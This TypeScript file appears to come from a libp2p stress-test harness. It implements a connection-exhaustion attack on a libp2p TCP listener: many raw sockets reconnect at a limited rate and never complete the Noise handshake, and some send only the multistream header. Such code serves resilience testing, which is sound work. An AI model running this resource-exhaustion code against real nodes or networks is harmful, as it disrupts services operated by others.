/**
 * Raw TCP attack on the libp2p listener: sockets that connect and never finish the Noise handshake
 * (send nothing, or only the multistream header), reconnecting as soon as the target drops them.
 */
import { connect } from 'node:net'
import type { Attack } from './common.ts'
import { lpFrame, rateLimiter, workers } from './common.ts'

const MSS_HEADER = lpFrame(new TextEncoder().encode('/multistream/1.0.0\n'))

/** Row 3: 20 raw sockets reconnecting at up to ~100/s, never finishing Noise. */
const tcpPendingUpgrades: Attack = async (ctx) => {
  const host = ctx.target.getComponents().find(c => c.name === 'ip4')?.value ?? '127.0.0.1'
  const port = Number(ctx.target.getComponents().find(c => c.name === 'tcp')?.value)
  const limiter = rateLimiter(ctx.num('rate', 100))
  ctx.started()
  await workers(ctx.num('sockets', 20), async (i) => {
    while (!ctx.over) {
      await limiter.take()
      if (ctx.over) break
      await new Promise<void>(resolve => {
        const socket = connect({ host, port, localAddress: ctx.source(i) })
        const stop = setTimeout(() => { socket.destroy() }, Math.max(0, ctx.until - Date.now()))
        socket.on('connect', () => {
          ctx.count('connects')
          if (i % 2 === 1) socket.write(MSS_HEADER)
        })
        socket.on('data', () => {}) // the target's multistream answer, unread
        socket.on('error', () => { ctx.count('errors') })
        socket.on('close', () => { clearTimeout(stop); resolve() })
      })
    }
  })
  return undefined
}

export const tcpAttacks: Record<string, Attack> = { 'tcp-pending-upgrades': tcpPendingUpgrades }
